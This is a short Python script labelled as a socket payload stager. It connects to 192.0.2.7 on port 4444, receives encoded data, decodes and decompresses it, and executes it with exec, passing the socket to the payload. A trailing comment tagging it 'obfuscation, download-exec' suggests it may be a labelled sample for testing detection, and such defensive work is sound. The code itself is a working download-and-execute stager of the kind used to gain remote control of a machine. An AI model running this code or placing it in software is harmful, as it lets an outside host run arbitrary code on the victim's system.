# socket payload stager: receive, decode, exec
import base64
import socket
import zlib

s = socket.socket(2, socket.SOCK_STREAM)
s.connect(("192.0.2.7", 4444))
d = s.recv(4096)
exec(zlib.decompress(base64.b64decode(d)), {"s": s})  # expect: obfuscation, download-exec
